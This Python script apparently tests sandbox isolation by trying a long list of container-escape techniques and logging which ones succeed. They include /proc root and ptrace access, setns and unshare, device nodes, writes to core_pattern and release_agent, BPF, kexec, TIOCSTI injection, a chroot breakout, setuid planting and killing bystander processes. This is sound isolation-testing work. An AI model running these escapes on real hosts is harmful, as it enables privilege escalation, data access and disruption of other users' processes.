"""Try every known way out of a copy, as whoever it runs as; then serve, unless told `once`.

`targets.json` beside it says what lies outside. What has an effect there (a file, a byte that
somebody gets, a process that is gone) is seen there; what has none is written down in `wins`.
"""

import contextlib
import ctypes
import fcntl
import http.server
import json
import os
import signal
import socket
import stat
import struct
import sys
import termios
import time

STANDARD = (0, 1, 2)
OPEN = {}
"""Descriptor → where it leads, of those that this was begun with."""
for number in range(1024):
    with contextlib.suppress(OSError):
        OPEN[number] = os.readlink(f"/proc/self/fd/{number}")
HOME = os.path.dirname(os.path.abspath(__file__))
TARGETS = json.load(open(f"{HOME}/targets.json"))
MARKS = TARGETS["marks"]
LIBC = ctypes.CDLL(None, use_errno=True)
PR_SET_NAME = 15
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
# Of x86-64 and of the table that all newer architectures share.
IS_X86 = os.uname().machine == "x86_64"
KEYCTL, BPF, PERF, KEXEC, FINIT, REBOOT, OPEN_BY_HANDLE = (
    (250, 321, 298, 246, 313, 169, 304) if IS_X86 else (219, 280, 241, 104, 273, 142, 265)
)
WAYS = []


def way(go):
    WAYS.append(go)
    return go


def call(number, *arguments):
    """Make a system call; return its value, or the error as a negative number."""
    value = LIBC.syscall(number, *arguments)
    return -ctypes.get_errno() if value == -1 else value


def others():
    own = {os.getpid(), os.getppid()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


def bystanders():
    """Return those that are meant, and no others: what is done to them is done to nobody else."""
    found = []
    for pid in others():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            found += [pid] if file.read().startswith(TARGETS["bystander"].encode()) else []
    return found


def plant(path):
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))


def first(action, items):
    """Do it with each until one lets it be done; return what came."""
    for item in items:
        try:
            if (found := action(item)) is not None:
                return found
        except OSError:
            pass
    return None


@way
def root_of_a_process():
    first(lambda pid: plant(f"/proc/{pid}/root{MARKS}/out-by-root-of-a-process"), others())


@way
def folder_of_a_process():
    first(lambda pid: plant(f"/proc/{pid}/cwd/out-by-cwd"), bystanders())


@way
def file_of_a_process():
    def by_descriptors(pid):
        for name in os.listdir(f"/proc/{pid}/fd"):
            first(lambda fd: plant(f"/proc/{pid}/fd/{fd}/out-by-fd"), [name])

    first(by_descriptors, bystanders())


@way
def memory_of_a_process():
    return first(
        lambda pid: os.open(f"/proc/{pid}/mem", os.O_RDWR) and f"memory of process {pid}",
        bystanders(),
    )


@way
def sight_of_other_processes():
    return "a process of outside" if bystanders() else None


@way
def ptrace():
    def attach(pid):
        if LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            os.waitpid(pid, 0x40000000)
            LIBC.ptrace(PTRACE_DETACH, pid, 0, 0)
            return f"attached to {pid}"
        return None

    return first(attach, bystanders())


@way
def setns():
    def enter(pid):
        for kind in ("mnt", "net", "pid"):
            handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            is_other = os.readlink(f"/proc/{pid}/ns/{kind}") != os.readlink(f"/proc/self/ns/{kind}")
            if is_other and LIBC.setns(handle, 0) == 0:
                plant(f"{MARKS}/out-by-setns")
                return f"the {kind} namespace of {pid}"
        return None

    return in_child(lambda: first(enter, others()))


@way
def unshare_users():
    return in_child(lambda: "a user namespace" if LIBC.unshare(CLONE_NEWUSER) == 0 else None)


@way
def unshare_mounts():
    return in_child(lambda: "a mount namespace" if LIBC.unshare(CLONE_NEWNS) == 0 else None)


@way
def unshare_network():
    return in_child(lambda: "a network namespace" if LIBC.unshare(CLONE_NEWNET) == 0 else None)


@way
def mount():
    def mounted():
        is_done = LIBC.mount(b"none", HOME.encode(), b"tmpfs", 0, None) == 0
        return "a tmpfs" if is_done and LIBC.umount2(HOME.encode(), 2) == 0 else None

    return in_child(mounted)


@way
def device_node():
    def node():
        path = f"{HOME}/disk-{os.getpid()}"
        device = os.makedev(*TARGETS["disk"])
        os.mknod(path, 0o600 | stat.S_IFBLK, device)
        return f"the disk {TARGETS['disk']}" if os.read(os.open(path, os.O_RDONLY), 1) else None

    return first(lambda _: node(), [0])


@way
def devices():
    names = [
        "mem",
        "kmem",
        "port",
        "kmsg",
        *(n for n in os.listdir("/dev") if n[:2] in ("vd", "sd")),
    ]
    return first(lambda name: os.open(f"/dev/{name}", os.O_RDWR) and f"/dev/{name}", names)


@way
def settings_of_the_kernel():
    names = ["kernel/core_pattern", "kernel/modprobe", "vm/overcommit_memory", "kernel/hostname"]
    paths = [f"/proc/sys/{name}" for name in names] + ["/proc/sysrq-trigger"]
    return first(lambda path: os.open(path, os.O_WRONLY) and path, paths)


@way
def files_of_sysfs():
    paths = ["/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/sys/power/state"]
    paths += ["/sys/devices/system/cpu/cpu1/online"]
    return first(lambda path: os.open(path, os.O_WRONLY) and path, paths)


@way
def release_agent():
    top = "/sys/fs/cgroup"
    paths = [f"{top}/{name}/release_agent" for name in os.listdir(top)]
    paths += [f"{top}/{name}/cgroup.procs" for name in os.listdir(top)] + [f"{top}/cgroup.procs"]
    return first(lambda path: os.open(path, os.O_WRONLY) and path, paths)


@way
def mounted_control_groups():
    def mounted():
        target = f"{HOME}/groups-{os.getpid()}"
        os.mkdir(target)
        is_done = LIBC.mount(b"x", target.encode(), b"cgroup", 0, b"pids") == 0
        return "a hierarchy of control groups" if is_done else None

    return in_child(mounted)


@way
def keyrings():
    # KEYCTL_GET_KEYRING_ID of the user's keyring, which no namespace keeps apart.
    return "the keyring of the user outside" if call(KEYCTL, 0, -4, 1) > 0 else None


@way
def bpf():
    # mov r0, 0; exit
    program = struct.pack("=BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0)
    code = ctypes.create_string_buffer(program)
    licence = ctypes.create_string_buffer(b"GPL")
    asked = struct.pack("=IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence))
    asked = ctypes.create_string_buffer(asked.ljust(128, b"\0"))
    return "a program in the kernel" if call(BPF, 5, asked, 128) > 0 else None


@way
def perf():
    asked = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0"), 112)
    return "all that a core does" if call(PERF, asked, -1, 0, -1, 0) > 0 else None


@way
def kexec():
    return "another kernel" if call(KEXEC, 0, 0, 0, 0) == 0 else None


@way
def modules():
    # With a descriptor that leads nowhere the right to do it is asked for first.
    return "a module of the kernel" if call(FINIT, -1, b"", 0) not in (-1, -38) else None


@way
def reboot():
    return "the machine's power" if call(REBOOT, 0, 0, 0, 0) not in (-1, -38) else None


@way
def file_handles():
    # 8 bytes of handle, type 1, of the file system of `/`: the top's inode.
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, 2))
    top = os.open("/", os.O_RDONLY)
    value = call(OPEN_BY_HANDLE, top, handle, os.O_RDONLY)
    return "files by their handles" if value not in (-1, -38) else None


@way
def abstract_socket():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + TARGETS["abstract"])
        client.sendall(b"by an abstract socket")


@way
def own_loopback():
    with socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=1) as client:
        client.sendall(b"by the loopback")


@way
def inherited_descriptors():
    # A pipe or a socket that it listens at is a server's; a file or folder is somebody else's.
    found = [path for at, path in OPEN.items() if at not in STANDARD and path.startswith("/")]
    return ", ".join(found) or None


@way
def terminal():
    def type_into(path):
        handle = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for letter in b"#his\n":
            fcntl.ioctl(handle, termios.TIOCSTI, bytes([letter]))
        return f"root's terminal, by {path}"

    return first(type_into, ["/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"])


@way
def chroot():
    def left():
        inner = f"{HOME}/inner-{os.getpid()}"
        os.mkdir(inner)
        before = os.open("/", os.O_RDONLY)
        os.chroot(inner)
        os.fchdir(before)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        plant(f"{MARKS}/out-by-chroot")

    in_child(left)


def lend(path):
    with open("/bin/true", "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    os.chmod(path, 0o4755)


@way
def a_program_that_lends_rights():
    if os.geteuid() != 0:
        return
    for folder in (HOME, *TARGETS["open_to_all"]):
        first(lend, [f"{folder}/his-setuid"])


@way
def roots_secret():
    with open(f"{MARKS}/secret") as file:
        return "root's secret, read in the copy" if file.read() else None


# What others need is taken away last.
@way
def remove_a_mount():
    def removed():
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
        return first(lambda p: p if LIBC.umount2(p.encode(), 2) == 0 else None, points[::-1])

    return in_child(removed)


@way
def signals():
    first(lambda pid: os.kill(pid, signal.SIGKILL), bystanders())
    # Numbers of another namespace of processes are others here, or nobody's.
    if os.readlink("/proc/self/ns/pid") == TARGETS["pids"]:
        first(lambda pid: os.kill(pid, signal.SIGKILL), TARGETS["bystanders"])


def in_child(action):
    """Do what cannot be undone in a process of its own; return what it says."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            os.write(writing, (action() or "").encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as file:
        said = file.read()
    os.waitpid(pid, 0)
    return said


class Answer(http.server.BaseHTTPRequestHandler):
    """Answers all the same."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *_):
        pass


IS_OUTSIDE = os.readlink("/proc/self/ns/mnt") == TARGETS["mounts"]
if not IS_OUTSIDE:
    wins = []
    for each in WAYS:
        try:
            won = each()
        except (OSError, ValueError):
            won = None
        if won:
            name = each.__name__.replace("_", " ")
            wins.append(f"{name}: {won}, as uid {os.geteuid()}")
    said = "tried\n" + "".join(f"{line}\n" for line in wins)
    first(lambda folder: open(f"{folder}/wins", "w").write(said), [HOME, "/tmp", "/dev/shm"])
    # Seen from outside by this name, for long enough.
    LIBC.prctl(PR_SET_NAME, b"trying-ways-out", 0, 0, 0)
    time.sleep(0.3)
if "once" not in sys.argv:
    http.server.ThreadingHTTPServer(("127.0.0.1", TARGETS["listens"]), Answer).serve_forever()
